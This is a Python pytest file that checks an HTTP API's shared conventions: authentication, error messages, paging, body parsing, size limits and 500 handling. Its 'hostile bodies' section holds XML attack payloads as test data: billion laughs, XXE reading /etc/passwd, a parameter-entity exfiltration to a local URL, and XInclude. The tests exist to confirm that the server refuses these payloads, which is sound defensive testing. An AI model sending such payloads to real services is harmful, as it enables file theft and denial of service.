"""The conventions every method shares (spec section 1), over real HTTP, with exact strings.

Authentication, version, output, routing, verbs, body parsing and paging errors; hostile bodies
(entities, nesting, encodings, size) and what the edge does when a handler fails unexpectedly.
"""

from __future__ import annotations

import logging
import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest
from lxml import etree

from tests.support import ApiClient, RunningServer, errors_of, rows_of, wrap
from voxflow.api import routing
from voxflow.api.routing import Request, Result

UNAUTHORIZED = "HTTP 401: Unauthorized"
NODES_METHODS = {
    "createNodes": "POST",
    "getNodes": "GET",
    "updateNodes": "PUT",
    "deleteNodes": "DELETE",
}
VERBS = ("POST", "GET", "PUT", "DELETE")
NODE = "<node><node_id>n1</node_id><node_name>Shop</node_name><node_type>shop</node_type></node>"
MIB = 1024 * 1024


def send(
    api: ApiClient,
    verb: str,
    path: str,
    params: dict[str, str] | None = None,
    body: bytes | None = None,
    *,
    headers: dict[str, str] | None = None,
    auth: bool = True,
) -> httpx.Response:
    """A raw request: nothing is added to ``params`` (so ``v`` and ``method`` may be absent)."""
    sent = api.headers(headers) if auth else dict(headers or {})
    return api.http.request(verb, path, params=params or {}, content=body, headers=sent)


def error_statuses(resp: httpx.Response) -> list[str]:
    root = etree.fromstring(resp.content)
    return [e.get("status", "") for e in root.findall("error")]


# ------------------------------------------------------------------ authentication


def test_every_authentication_failure_is_the_same_401(
    server: RunningServer, api: ApiClient
) -> None:
    walled_user, walled_key = server.create_account("walled", allow_ips=["10.9.9.0/24"])
    query = {"v": "3", "method": "getNodes"}
    causes: dict[str, dict[str, str]] = {
        "no headers": {},
        "missing username": {"secureKey": api.key},
        "missing secureKey": {"username": api.username},
        "empty username": {"username": "", "secureKey": api.key},
        "empty secureKey": {"username": api.username, "secureKey": ""},
        "unknown user": {"username": "nobody", "secureKey": api.key},
        "wrong key": {"username": api.username, "secureKey": "0" * 32},
        "another account's key": {"username": api.username, "secureKey": walled_key},
        "key in upper case": {"username": api.username, "secureKey": api.key.upper()},
        "address outside --allow-ip": {"username": walled_user, "secureKey": walled_key},
    }
    bodies: dict[str, bytes] = {}
    for cause, headers in causes.items():
        r = send(api, "GET", "/Nodes", query, headers=headers, auth=False)
        assert r.status_code == 401, (cause, r.text)
        assert r.headers["content-type"].startswith("application/xml"), cause
        assert errors_of(r) == [UNAUTHORIZED], cause
        assert error_statuses(r) == ["401"], cause
        bodies[cause] = r.content
    assert len(set(bodies.values())) == 1, bodies

    # Authentication comes first: a bad request from a stranger learns only "401", in XML.
    for path, params in (
        ("/Nowhere", {"output": "JSON", "v": "3", "method": "getNodes"}),
        ("/Nowhere", {}),
        ("/Nodes", {"v": "9"}),
        ("/%0ANodes", q()),
    ):
        r = send(api, "GET", path, params, auth=False)
        assert r.status_code == 401 and r.content == bodies["no headers"], (path, params)
    r = send(api, "PROPFIND", "/Nodes", q(), auth=False)
    assert r.status_code == 401 and r.content == bodies["no headers"]
    r = send(api, "POST", "/Nodes", {"v": "3", "method": "createNodes"}, b"<request>", auth=False)
    assert r.status_code == 401 and r.content == bodies["no headers"]
    # Control: valid credentials work, and so does an account whose range holds 127.0.0.1.
    assert api.get("Nodes", "getNodes").status_code == 200
    local_user, local_key = server.create_account("local", allow_ips=["10.9.9.0/24", "127.0.0.0/8"])
    headers = {"username": local_user, "secureKey": local_key}
    assert send(api, "GET", "/Nodes", query, headers=headers, auth=False).status_code == 200


def test_header_names_in_any_case(api: ApiClient) -> None:
    for user_header, key_header in (
        ("Username", "SECUREKEY"),
        ("USERNAME", "Securekey"),
        ("username", "securekey"),
        ("uSeRnAmE", "SecureKey"),
    ):
        headers = {user_header: api.username, key_header: api.key}
        r = send(
            api, "GET", "/Nodes", {"v": "3", "method": "getNodes"}, headers=headers, auth=False
        )
        assert r.status_code == 200, (user_header, key_header, r.text)


# ------------------------------------------------------------------ the error table


@dataclass(frozen=True)
class Case:
    name: str
    verb: str
    path: str
    params: dict[str, str]
    messages: list[str]
    body: bytes | None = None
    status: int = 400
    headers: dict[str, str] = field(default_factory=dict)


def q(method: str | None = "getNodes", v: str | None = "3", **extra: str) -> dict[str, str]:
    params = {"v": v, "method": method, **extra}
    return {k: val for k, val in params.items() if val is not None}


def verb_cases() -> Iterator[Case]:
    for method, verb in NODES_METHODS.items():
        for other in (*VERBS, "PATCH", "OPTIONS", "TRACE", "PROPFIND"):
            if other != verb:
                body = wrap(NODE).encode() if other in ("POST", "PUT") else None
                yield Case(
                    f"{other} to {method}",
                    other,
                    "/Nodes",
                    q(method),
                    [f"Request Method must be {verb}. {other} attempted"],
                    body,
                )


def body_cases() -> Iterator[Case]:
    for method, verb in (("createNodes", "POST"), ("updateNodes", "PUT")):
        for label, body, message in (
            ("empty body", b"", "XML Empty"),
            ("whitespace body", b" \r\n\t \n", "XML Empty"),
            ("self-closed request", b"<request/>", "Request Empty"),
            ("empty request", b"<request></request>", "Request Empty"),
            (
                "empty request with a declaration",
                b'<?xml version="1.0"?>\n<request>\n</request>\n',
                "Request Empty",
            ),
            ("a request of comments only", b"<request><!-- nothing --></request>", "Request Empty"),
            ("another root without children", b"<nodes/>", "Request Empty"),
            ("another root, pretty-printed", b"<response>\n  \n</response>", "Request Empty"),
        ):
            yield Case(f"{method}: {label}", verb, "/Nodes", q(method), [message], body)


def paging_cases() -> Iterator[Case]:
    for label, params, message in (
        ("page not a number", {"page": "abc"}, "Page Number not an integer"),
        ("page negative", {"page": "-1"}, "Page Number not an integer"),
        ("page fractional", {"page": "1.5"}, "Page Number not an integer"),
        ("page zero", {"page": "0"}, "Page Number not an integer"),
        ("limit not a number", {"limit": "ten"}, "Limit not an integer"),
        # str.isdigit() takes these, int() does not: found by the fuzz test as a 500.
        ("limit a superscript digit", {"limit": "\u00b2"}, "Limit not an integer"),
        ("page an Arabic-Indic digit", {"page": "\u0663"}, "Page Number not an integer"),
        ("limit negative", {"limit": "-5"}, "Limit not an integer"),
        ("limit zero", {"limit": "0"}, "Limit must be between 1 and 20000"),
        ("limit too big", {"limit": "20001"}, "Limit must be between 1 and 20000"),
        ("unknown req_fields", {"req_fields": "zz,yy"}, "Required Fields Invalid: zz,yy"),
        (
            "partly unknown req_fields",
            {"req_fields": "nid,zz,yy"},
            "Required Fields Invalid: zz,yy",
        ),
        ("unknown order field", {"order": "zz_ASC"}, "Order Field Invalid"),
        ("order without direction", {"order": "nid"}, "Order Direction Invalid"),
        ("unknown order direction", {"order": "nid_UP"}, "Order Direction Invalid"),
    ):
        yield Case(f"getNodes: {label}", "GET", "/Nodes", q("getNodes", **params), [message])


CASES: list[Case] = [
    Case("v missing", "GET", "/Nodes", q(v=None), ["API Version Empty"]),
    Case("v empty", "GET", "/Nodes", q(v=""), ["API Version Empty"]),
    Case("v blank", "GET", "/Nodes", q(v="  "), ["API Version Empty"]),
    Case("v=2", "GET", "/Nodes", q(v="2"), ["API Version Invalid"]),
    Case("v=abc", "GET", "/Nodes", q(v="abc"), ["API Version Invalid"]),
    Case("v=3.0", "GET", "/Nodes", q(v="3.0"), ["API Version Invalid"]),
    Case(
        "v missing on a write",
        "POST",
        "/Nodes",
        q("createNodes", v=None),
        ["API Version Empty"],
        wrap(NODE).encode(),
    ),
    Case("output=CSV", "GET", "/Nodes", q(output="CSV"), ["Output Type Invalid"]),
    Case("output empty", "GET", "/Nodes", q(output=""), ["Output Type Invalid"]),
    Case(
        "output=CSV on a write",
        "POST",
        "/Nodes",
        q("createNodes", output="CSV"),
        ["Output Type Invalid"],
        wrap(NODE).encode(),
    ),
    Case("unknown interface", "GET", "/Nowhere", q(), ["Interface Invalid"]),
    Case("no interface", "GET", "/", q(), ["Interface Invalid"]),
    Case("nested path", "GET", "/Nodes/getNodes", q(), ["Interface Invalid"]),
    Case("newline in the path", "GET", "/%0ANodes", q(), ["Interface Invalid"]),
    Case("method missing", "GET", "/Nodes", q(None), ["Method Empty"]),
    Case("method empty", "GET", "/Nodes", q(""), ["Method Empty"]),
    Case("unknown method", "GET", "/Nodes", q("getNothing"), ["Method Invalid"]),
    Case("method of another interface", "GET", "/Nodes", q("initiateCall"), ["Method Invalid"]),
    *verb_cases(),
    *body_cases(),
    *paging_cases(),
]


def test_convention_errors(api: ApiClient) -> None:
    """Every row of the table gets exactly its status and message, in an XML error document."""
    failures: list[str] = []
    for case in CASES:
        r = send(api, case.verb, case.path, case.params, case.body, headers=case.headers)
        got: Any
        try:
            got = (r.status_code, errors_of(r), error_statuses(r))
        except (AssertionError, etree.XMLSyntaxError, KeyError):
            got = (r.status_code, r.headers.get("content-type"), r.text[:200])
        want = (case.status, case.messages, [str(case.status)] * len(case.messages))
        if got != want:
            failures.append(f"{case.name}: want {want}, got {got}")
    assert not failures, "\n".join(failures)


def test_case_of_names_in_the_url(api: ApiClient) -> None:
    """Routing ignores the case of the interface and method names; output takes any case."""
    assert send(api, "GET", "/nodes", q("GETNODES")).status_code == 200
    r = send(api, "GET", "/Nodes", q(output="json"))
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/json")
    # output=XML/JSON is accepted on writes too.
    r = send(api, "POST", "/Nodes", q("createNodes", output="XML"), wrap(NODE).encode())
    assert r.status_code == 201, r.text


def test_parse_error_names_the_line_and_column(api: ApiClient) -> None:
    broken = b"<request>\n  <node><node_id>n1</node_id></nodes>\n</request>\n"
    truncated = b"<request><node><node_id>n1</node_id>"
    expectations = {
        broken: ("Opening and ending tag mismatch: node line 2 and nodes", 2, 38),
        truncated: ("Premature end of data in tag node line 1", 1, 37),
    }
    # Interleaved and repeated: each answer describes its own document, never an earlier one.
    for body in [broken, truncated] * 3:
        message, line, column = expectations[body]
        r = api.post("Nodes", "createNodes", body)
        assert r.status_code == 400
        (got,) = errors_of(r)
        assert got.startswith("XML parse error. "), got
        assert got.endswith(f" at line {line}, column {column}"), got
        assert got == f"XML parse error. {message} at line {line}, column {column}"


def test_json_error_documents(api: ApiClient) -> None:
    r = send(api, "GET", "/Nodes", q(output="JSON", page="x"))
    assert r.status_code == 400
    assert r.headers["content-type"].startswith("application/json")
    assert r.json() == {
        "errors": {"error": {"@status": "400", "#text": "Page Number not an integer"}}
    }

    # Conventions checked after output are JSON too.
    r = send(api, "GET", "/Nodes", q(v=None, output="JSON"))
    assert r.json() == {"errors": {"error": {"@status": "400", "#text": "API Version Empty"}}}

    # Several errors: a list, in order.
    body = wrap("<node><node_id/></node>", NODE, "<node><node_id/></node>").encode()
    r = send(api, "POST", "/Nodes", q("createNodes", output="JSON"), body)
    assert r.status_code == 400
    assert r.json() == {
        "errors": {
            "error": [
                {"@status": "400", "#text": "Node ID 1 of 3 Empty"},
                {"@status": "400", "#text": "Node ID 3 of 3 Empty"},
            ]
        }
    }
    # output itself invalid: there is no JSON to speak of, the answer is XML.
    r = send(api, "GET", "/Nodes", q(output="CSV"))
    assert r.headers["content-type"].startswith("application/xml")


def test_errors_quoting_control_characters_are_still_documents(api: ApiClient) -> None:
    """An error that quotes the client's input holds only what XML can carry."""
    r = send(api, "GET", "/Nodes", q(req_fields="\x1b,\x01,ok"))
    assert r.status_code == 400
    assert errors_of(r) == ["Required Fields Invalid: \ufffd,\ufffd,ok"]
    r = send(api, "GET", "/Nodes", q(req_fields="\x1b", output="JSON"))
    assert r.status_code == 400
    assert r.json()["errors"]["error"]["#text"] == "Required Fields Invalid: \x1b"


@pytest.mark.parametrize("params", [{"node_id": "a\x00b"}, {"x\x00": "1"}, {"method": "\x00"}])
def test_a_nul_anywhere_in_the_query_string_is_refused(
    api: ApiClient, params: dict[str, str]
) -> None:
    """Databases cannot hold NUL; it is refused at the edge, on every method."""
    r = send(api, "GET", "/Nodes", q(**params))
    assert r.status_code == 400
    assert errors_of(r) == ["Query String Invalid"]


# ------------------------------------------------------------------ bodies that must work


def test_bodies_are_xml_whatever_the_content_type(api: ApiClient) -> None:
    def node(node_id: str) -> str:
        return (
            f"<node><node_id>{node_id}</node_id>"
            "<node_name>N</node_name><node_type>t</node_type></node>"
        )

    content_types: list[str | None] = [
        "application/xml",
        "text/xml; charset=utf-8",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=xyz",
        "application/json",
        "text/plain",
        None,
    ]
    for i, content_type in enumerate(content_types):
        headers = {"content-type": content_type} if content_type else {}
        compact = wrap(node(f"c{i}")).encode()
        r = send(api, "POST", "/Nodes", q("createNodes"), compact, headers=headers)
        assert r.status_code == 201, (content_type, r.text)
        assert r.content == b"" or r.headers["content-type"].startswith("application/xml")

        pretty = (
            '<?xml version="1.0" encoding="UTF-8"?>\r\n'
            "<request>\r\n"
            "    <node>\r\n"
            f"        <node_id>p{i}</node_id>\r\n"
            "        <node_name>N</node_name>\r\n"
            "        <node_type>t</node_type>\r\n"
            "    </node>\r\n"
            "</request>\r\n"
        ).encode()
        r = send(api, "POST", "/Nodes", q("createNodes"), pretty, headers=headers)
        assert r.status_code == 201, (content_type, r.text)

    # A form-looking body labelled as a form is not parsed as a form.
    form = {"content-type": "application/x-www-form-urlencoded"}
    r = send(api, "POST", "/Nodes", q("createNodes"), b"node_id=x&node_name=y", headers=form)
    assert r.status_code == 400
    assert errors_of(r)[0].startswith("XML parse error. ")

    ids = {row["node_id"] for row in rows_of(api.get("Nodes", "getNodes"))}
    assert ids == {f"{kind}{i}" for kind in "cp" for i in range(len(content_types))}

    # Pretty-printed updates too, with an empty element the method does not need.
    update = (
        b"<request>\n  <node>\n    <node_id>c0</node_id>\n"
        b"    <node_name>Renamed</node_name>\n    <categories/>\n  </node>\n</request>\n"
    )
    r = send(api, "PUT", "/Nodes", q("updateNodes"), update, headers=form)
    assert r.status_code == 204 and r.content == b"", r.text
    (row,) = rows_of(api.get("Nodes", "getNodes", node_id="c0"))
    assert row["node_name"] == "Renamed"


# ------------------------------------------------------------------ hostile bodies


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n<request><node><node_id>&lol9;</node_id></node></request>"
).encode()
XXE_FILE = (
    b'<?xml version="1.0"?>\n<!DOCTYPE request [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b"<request><node><node_id>&xxe;</node_id><node_name>x</node_name></node></request>"
)
XXE_HTTP = (
    b'<!DOCTYPE request [<!ENTITY xxe SYSTEM "http://127.0.0.1:1/evil.dtd">]>'
    b"<request><node><node_id>&xxe;</node_id></node></request>"
)
EXTERNAL_DTD = (
    b'<!DOCTYPE request SYSTEM "http://127.0.0.1:1/evil.dtd">'
    b"<request><node><node_id>x</node_id></node></request>"
)
PARAMETER_ENTITIES = (
    b'<!DOCTYPE request [\n  <!ENTITY % file SYSTEM "file:///etc/passwd">\n'
    b"  <!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:1/?x=%file;'>\">\n"
    b"  %eval;\n  %exfil;\n]>\n<request><node><node_id>x</node_id></node></request>"
)
UTF16_DOCTYPE = (
    '<?xml version="1.0" encoding="UTF-16"?>\n'
    '<!DOCTYPE request [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa">]>\n'
    "<request><node><node_id>&xxe;&a;</node_id><node_name>x</node_name>"
    "<node_type>t</node_type></node></request>"
).encode("utf-16")
UNDEFINED_ENTITY = b"<request><node><node_id>&xxe;</node_id></node></request>"
XINCLUDE = (
    b'<request xmlns:xi="http://www.w3.org/2001/XInclude">'
    b'<xi:include href="file:///etc/passwd" parse="text"/></request>'
)
DEEP = b"<request>" + b"<node>" * 10_000 + b"</node>" * 10_000 + b"</request>"
DEEP_UNCLOSED = b"<request>" + b"<a>" * 10_000
NUL_REFERENCE = b"<request><node><node_id>&#0;</node_id></node></request>"
INVALID_UTF8 = b"<request><node><node_id>\xc3\x28\xff\xfe</node_id></node></request>"
LATIN1_DECLARED_UTF8 = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b"<request><node><node_id>caf\xe9</node_id></node></request>"
)
TRUNCATED = wrap(NODE).encode()[:-13]
RANDOM_BINARY = random.Random(20240601).randbytes(4096)
HUGE = b"<request>" + b"<node><node_id>x</node_id></node>" * (2 * MIB // 33) + b"</request>"

HOSTILE: dict[str, bytes] = {
    "billion laughs": BILLION_LAUGHS,
    "external entity (file)": XXE_FILE,
    "external entity (http)": XXE_HTTP,
    "external DTD": EXTERNAL_DTD,
    "parameter entities": PARAMETER_ENTITIES,
    "UTF-16 with a DOCTYPE": UTF16_DOCTYPE,
    "undefined entity": UNDEFINED_ENTITY,
    "XInclude": XINCLUDE,
    "10,000-deep nesting": DEEP,
    "10,000-deep and unclosed": DEEP_UNCLOSED,
    "NUL character reference": NUL_REFERENCE,
    "invalid UTF-8": INVALID_UTF8,
    "latin-1 declared as UTF-8": LATIN1_DECLARED_UTF8,
    "truncated document": TRUNCATED,
    "random binary": RANDOM_BINARY,
    "NUL bytes": b"\x00" * 1000,
}


def chunked(body: bytes, size: int = 64 * 1024) -> Iterator[bytes]:
    """An iterator body: httpx sends it with Transfer-Encoding: chunked (no Content-Length)."""
    for start in range(0, len(body), size):
        yield body[start : start + size]


def assert_error_document(r: httpx.Response, what: str) -> list[str]:
    assert 400 <= r.status_code < 500, (what, r.status_code, r.text[:300])
    messages = errors_of(r)
    assert messages, what
    assert "root:" not in r.text, what  # nothing of /etc/passwd comes back
    return messages


def test_hostile_bodies_get_a_4xx_error_document(api: ApiClient) -> None:
    for method, verb in (("createNodes", "POST"), ("updateNodes", "PUT")):
        for what, body in HOSTILE.items():
            r = send(api, verb, "/Nodes", q(method), body)
            messages = assert_error_document(r, f"{method}: {what}")
            assert r.status_code == 400, (what, messages)
            assert messages[0].startswith(("XML parse error. ", "XML Empty", "Request Empty")), (
                what,
                messages,
            )
    # Nothing was written by any of them.
    assert rows_of(api.get("Nodes", "getNodes")) == []


def test_bodies_over_1_mib_are_refused_with_413(api: ApiClient) -> None:
    assert len(HUGE) > 2 * MIB - 100
    for verb, method in (("POST", "createNodes"), ("PUT", "updateNodes"), ("GET", "getNodes")):
        r = send(api, verb, "/Nodes", q(method), HUGE)
        assert r.status_code == 413, (verb, "content-length", r.text[:200])
        assert errors_of(r) == ["Request Too Large"]
        assert error_statuses(r) == ["413"]

        r = api.http.request(
            verb, "/Nodes", params=q(method), content=chunked(HUGE), headers=api.headers()
        )
        assert "content-length" not in r.request.headers
        assert r.request.headers["transfer-encoding"] == "chunked"
        assert r.status_code == 413, (verb, "chunked", r.text[:200])
        assert errors_of(r) == ["Request Too Large"]
    # A body just under the limit is read and parsed (and is a well-formed, valid request).
    body = wrap(NODE + "<!--" + "x" * (MIB - 200) + "-->").encode()
    assert len(body) < MIB
    assert api.post("Nodes", "createNodes", body).status_code == 201


def rss_kib() -> int:
    """The resident set size of this process (the server runs in it, in a thread)."""
    with open("/proc/self/status", encoding="ascii") as fh:
        for line in fh:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise AssertionError("no VmRSS in /proc/self/status")


def test_hostile_bodies_do_not_grow_memory(api: ApiClient) -> None:
    bodies = [*HOSTILE.values(), HUGE]

    def one_round(count: int) -> None:
        for i in range(count):
            body = bodies[i % len(bodies)]
            content = chunked(body) if i % 7 == 3 else body
            r = api.http.request(
                "POST",
                "/Nodes",
                params=q("createNodes"),
                content=content,
                headers=api.headers(),
            )
            assert_error_document(r, f"request {i}")

    one_round(len(bodies) * 2)  # warm up: thread pool, parsers, connection pool
    before = rss_kib()
    one_round(200)
    grown = rss_kib() - before
    assert grown < 50 * 1024, f"RSS grew by {grown} KiB over 200 hostile requests"


# ------------------------------------------------------------------ unexpected failures


TEST_INTERFACE = "ZzEdgeTestOnly"


@pytest.fixture
def exploding_method() -> Iterator[str]:
    secret = "sensitive-detail-4f1c"

    def explode(_req: Request) -> Result:
        raise RuntimeError(f"handler blew up with {secret}")

    routing.route(TEST_INTERFACE, "explode", "GET")(explode)
    try:
        yield secret
    finally:
        routing._TABLE.pop((TEST_INTERFACE.lower(), "explode"), None)
        routing._INTERFACES.pop(TEST_INTERFACE.lower(), None)


def test_unexpected_exception_is_a_bare_500_and_logged(
    api: ApiClient, exploding_method: str, caplog: pytest.LogCaptureFixture
) -> None:
    secret = exploding_method
    with caplog.at_level(logging.ERROR, logger="voxflow.api"):
        r = api.get(TEST_INTERFACE, "explode")
        r_json = api.get(TEST_INTERFACE, "explode", output="JSON")

    assert r.status_code == 500
    assert errors_of(r) == ["Internal Server Error"]
    assert error_statuses(r) == ["500"]
    assert r_json.status_code == 500
    assert r_json.json() == {
        "errors": {"error": {"@status": "500", "#text": "Internal Server Error"}}
    }
    for resp in (r, r_json):
        for leak in ("Traceback", "RuntimeError", secret, 'File "'):
            assert leak not in resp.text

    for resp in (r, r_json):
        request_id = resp.headers["x-request-id"]
        assert request_id
        records = [rec for rec in caplog.records if request_id in rec.getMessage()]
        assert len(records) == 1, [rec.getMessage() for rec in caplog.records]
        (record,) = records
        assert record.levelno == logging.ERROR
        assert record.exc_info is not None and secret in str(record.exc_info[1])
    assert "Traceback" in caplog.text and secret in caplog.text
    assert r.headers["x-request-id"] != r_json.headers["x-request-id"]

    # The method is gone again once the fixture is done; other methods were never affected.
    assert api.get("Nodes", "getNodes").status_code == 200


def test_success_and_error_responses_carry_a_request_id(api: ApiClient) -> None:
    ok = api.get("Nodes", "getNodes")
    bad = api.get("Nodes", "getNodes", page="x")
    ids = {ok.headers.get("x-request-id"), bad.headers.get("x-request-id")}
    assert None not in ids and len(ids) == 2
